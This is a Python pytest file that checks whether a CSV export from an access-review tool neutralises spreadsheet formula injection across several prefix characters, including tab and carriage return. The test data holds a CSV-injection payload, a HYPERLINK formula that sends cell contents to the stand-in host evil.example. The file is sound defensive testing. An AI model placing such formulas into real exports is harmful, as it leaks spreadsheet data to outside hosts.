"""Access-review evidence CSV: cells a spreadsheet would run as a formula are neutralised,
including the tab / carriage-return prefixes (OWASP CSV injection list), not only = + - @.
Integration names and scopes can come from a SaaS (observed integrations), so they are
attacker-influenced text."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from ringfence.identity.reviews import AccessReviews
from ringfence.runtime import Runtime
from ringfence.store.models import App, Integration, Person, Vendor


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t=", "\r="])
def test_review_csv_neutralises_formula_cells(runtime: Runtime, prefix: str) -> None:
    payload = f'{prefix}HYPERLINK("https://evil.example/?x="&A1,"open")'
    with runtime.store.session() as s:
        vendor = Vendor(name="Acme")
        s.add(vendor)
        s.flush()
        crm = App(name="crm", vendor_id=vendor.id)
        alice = Person(email="alice@example.com", name="Alice")
        s.add_all([crm, alice])
        s.flush()
        s.add(
            Integration(
                name=payload, destination_app_id=crm.id, owner_id=alice.id, scopes=[payload]
            )
        )
    reviews = AccessReviews(runtime.store, runtime.clock)
    campaign = reviews.create(
        "q4",
        scope_kind="owner",
        scope_ref="alice@example.com",
        due_at=runtime.clock.now() + timedelta(days=7),
        actor="test",
    )
    rows = list(csv.reader(io.StringIO(reviews.export(campaign.id, "csv"))))
    cells = [cell for row in rows[2:] for cell in row]
    assert payload in "".join(cells).replace("'", "")  # the item is there
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), repr(cell)
